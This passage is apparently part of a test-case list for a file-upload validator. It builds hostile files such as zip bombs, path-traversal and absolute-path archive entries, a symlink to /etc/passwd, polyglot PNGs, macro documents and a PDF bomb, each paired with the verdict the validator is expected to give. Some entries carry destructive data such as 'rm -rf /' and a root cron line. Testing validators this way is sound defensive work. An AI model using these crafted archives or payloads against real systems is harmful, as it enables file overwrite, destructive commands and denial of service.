      name: 'ljuger.docx',
      bytes: () => docxWith([{ name: 'word/media/liten.bin', data: Buffer.alloc(5 * 1024 * 1024, 'a'), declaredSize: 100 }]),
      expect: 'unsafe-archive',
      why: 'an entry that declares 100 bytes but inflates to 5 MiB: caught while inflating, not trusted',
    },
    {
      name: 'traversal.docx',
      bytes: () => docxWith([{ name: '../../evil.sh', data: 'rm -rf /' }]),
      expect: 'unsafe-archive',
      why: 'a ../ entry that would escape the folder it is unpacked into',
    },
    {
      name: 'absolut.docx',
      bytes: () => docxWith([{ name: '/etc/cron.d/evil', data: '* * * * * root sh' }]),
      expect: 'unsafe-archive',
      why: 'an absolute entry path',
    },
    {
      name: 'enhet.docx',
      bytes: () => docxWith([{ name: 'C:/Windows/evil.dll', data: 'MZ' }]),
      expect: 'unsafe-archive',
      why: 'a Windows drive path',
    },
    {
      name: 'bakstreck.docx',
      bytes: () => docxWith([{ name: '..\\..\\evil.exe', data: 'MZ' }]),
      expect: 'unsafe-archive',
      why: 'a backslash path that some unpackers treat as ..\\ folders',
    },
    {
      name: 'symlink.odt',
      bytes: () =>
        makeZip([...odfParts(`${ODF_TYPE}.text`, '<office:text/>'), { name: 'Pictures/l.png', data: '/etc/passwd', unixMode: 0o120777 }]),
      expect: 'unsafe-archive',
      why: 'a symbolic link entry pointing at /etc/passwd',
    },
    {
      name: 'krypterad.docx',
      bytes: () => makeZip(docxParts(['Hemligt']).map((e) => (e.name === 'word/document.xml' ? { ...e, password: 'hemligt' } : e))),
      expect: 'unsafe-archive',
      why: 'an entry encrypted with a password, which cannot be checked',
    },
    { name: 'delar.docx', bytes: () => manyEntries(10_001), expect: 'unsafe-archive', why: '10,001 entries, one over the limit' },
    {
      name: 'dubbel.docx',
      bytes: () =>
        docxWith([
          {
            name: 'word/document.xml',
            data: `<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>Annan text</w:t></w:r></w:p></w:body></w:document>`,
          },
        ]),
      expect: 'unsafe-archive',
      why: 'two entries with one name, so different programs show different documents',
    },
    { name: 'bild.png', bytes: text(HTML_PAGE), expect: 'content-mismatch', why: 'HTML renamed to .png' },
    { name: 'foto.jpg', bytes: text(HTML_PAGE), expect: 'content-mismatch', why: 'HTML renamed to .jpg' },
    { name: 'logga.svg', bytes: text(SVG_WITH_SCRIPT), expect: 'type-not-allowed', why: 'SVG with a script (SVG is never accepted)' },
    { name: 'logga.png', bytes: text(SVG_WITH_SCRIPT), expect: 'content-mismatch', why: 'SVG with a script renamed to .png' },
    { name: 'logga.txt', bytes: text(SVG_WITH_SCRIPT), expect: 'content-mismatch', why: 'SVG with a script renamed to .txt' },
    {
      name: 'sida.txt',
      bytes: text(`\uFEFF  \n${HTML_PAGE}`),
      expect: 'content-mismatch',
      why: 'an HTML page renamed to .txt, behind a BOM and blank lines',
    },
    {
      name: 'polyglot.png',
      bytes: () => makePng([pngTextChunk('Comment', '<html><script>alert(1)</script></html>')]),
      expect: 'content-mismatch',
      why: 'a valid PNG carrying an HTML page in a text chunk in its first kilobyte',
    },
    { name: 'tom.pdf', bytes: () => Buffer.alloc(0), expect: 'empty', why: 'an empty file' },
    {
      name: 'sida.docx',
      bytes: () => Buffer.concat([Buffer.from(HTML_PAGE), makeDocx(['Protokoll'])]),
      expect: 'content-mismatch',
      why: 'an HTML page with a real docx appended: zip readers start from the end, so it must also start as a zip',
    },
    { name: 'rapport.docx', bytes: () => makePdf(['Rapport']), expect: 'content-mismatch', why: 'a real PDF named .docx' },
    { name: 'rapport.pdf', bytes: () => makeDocx(['Rapport']), expect: 'content-mismatch', why: 'a real docx named .pdf' },
    { name: 'tabell.docx', bytes: () => makeXlsx([['Belopp']]), expect: 'content-mismatch', why: 'a real xlsx named .docx' },
    {
      name: 'program.exe',
      bytes: () => Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
      expect: 'type-not-allowed',
      why: 'a Windows program',
    },
    { name: 'skript.js', bytes: text('alert(1)'), expect: 'type-not-allowed', why: 'JavaScript' },
    { name: 'sida.html', bytes: text(HTML_PAGE), expect: 'type-not-allowed', why: 'an HTML page' },
    { name: 'arkiv.zip', bytes: () => makeDocx(['x']), expect: 'type-not-allowed', why: 'a plain zip archive' },
    {
      name: 'tom.docx',
      bytes: () => makeZip(docxParts(['x']).filter((e) => e.name !== 'word/document.xml')),
      expect: 'content-mismatch',
      why: 'a docx without word/document.xml',
    },
    {
      name: 'makro.docx',
      bytes: () => docxWith([{ name: 'word/vbaProject.bin', data: Buffer.from('Attribute VB_Name = "AutoOpen"') }]),
      expect: 'content-mismatch',
      why: 'a macro document (.docm) renamed to .docx',
    },
    {
      name: 'kalkyl.odt',
      bytes: () => makeOds([['Belopp']]),
      expect: 'content-mismatch',
      why: 'an ODF spreadsheet named .odt (its mimetype says spreadsheet)',
    },
    {
      name: 'utan-typ.odt',
      bytes: () => makeZip(odfParts(`${ODF_TYPE}.text`, '<office:text/>').filter((e) => e.name !== 'mimetype')),
      expect: 'content-mismatch',
      why: 'an ODF package without its mimetype entry',
    },
    {
      name: 'stympad.png',
      bytes: () => PNG_SIGNATURE,
      expect: 'content-mismatch',
      why: 'a PNG truncated to its 8 magic bytes: no image header, so not an image',
    },
    {
      name: 'avklippt.png',
      bytes: () => makePng().subarray(0, 40),
      expect: 'accepted-neutralised',
      why: 'a PNG cut off inside its image data: the header is whole, it is served as image/png with nosniff (images are not decoded)',
    },
    {
      name: 'binär.txt',
      bytes: () => Buffer.concat([Buffer.from('Text '), randomBytes(4096)]),
      expect: 'content-mismatch',
      why: 'binary bytes in a .txt',
    },
    {
      name: 'utf16.txt',
      bytes: () => Buffer.from('\uFEFFHej Åsa', 'utf16le'),
      expect: 'content-mismatch',
      why: 'UTF-16 text (NUL bytes); only UTF-8 and Windows-1252 are taken',
    },
    {
      name: 'anteckning.md',
      bytes: text('# Anteckning\n\nSe <script>alert(1)</script> här.\n'),
      expect: 'accepted-neutralised',
      why: 'a script inside markdown text: served as text/plain with nosniff, never as HTML',
    },
    {
      name: 'pdf-bomb.pdf',
      bytes: () => makePdfBomb(64),
      expect: 'accepted-neutralised',
      why: 'a PDF whose content inflates to 64 MiB: a valid PDF, so accepted; its text extraction runs in a separate process with a memory limit',
    },
    {
      name: 'skadad.pdf',
      bytes: () => Buffer.from('%PDF-1.7\nskräp utan objekt\n%%EOF\n'),
      expect: 'accepted-neutralised',
      why: 'a damaged PDF: accepted by its header, served as application/pdf; its extraction fails with a reason',
    },
  ];
}
